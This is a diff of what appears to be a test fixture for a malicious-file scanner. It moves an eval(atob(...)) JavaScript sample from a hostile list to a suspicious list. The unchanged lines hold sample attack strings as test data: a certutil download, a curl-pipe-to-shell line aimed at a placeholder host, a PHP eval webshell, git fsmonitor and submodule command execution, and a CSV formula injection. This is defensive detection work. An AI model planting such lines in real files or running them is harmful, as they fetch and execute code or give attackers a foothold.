@@ -27,7 +27,6 @@ HOSTILE = [
     ("a.ps1", "powershell -NoP -EncodedCommand ZQBjAGgAbwA="),
     ("a.bat", "certutil -urlcache -f http://x.invalid/a a.exe"),
     ("a.bat", "powershell -w hidden -c x"),
-    ("a.js", "eval(atob('YQ=='))"),
     ("a.php", "<?php eval(base64_decode($_POST['x']));"),
     ("x.vbs", 'CreateObject("WScript.Shell").Run "curl http://x.invalid | sh"'),
 ]
@@ -59,6 +58,7 @@ SUSPICIOUS = [
     (".git/config", "[core]\n\tfsmonitor = ./x.sh", "git.runs-program"),
     (".gitmodules", '[submodule "x"]\n\turl = ext::sh -c id', "git.runs-program"),
     (".npmrc", "registry=https://x.invalid/", "requirements.index"),
+    ("a.js", "eval(atob('YQ=='))", "source.runs-decoded"),
     ("x.desktop", "[Desktop Entry]\nExec=./a", "script.clickable"),
     ("a.js", "const c = require('child_process'); c.exec('id')", "script.runs-program"),
     ("data.csv", "a,b\n=cmd|' /C calc'!A0,1", "table.formula"),
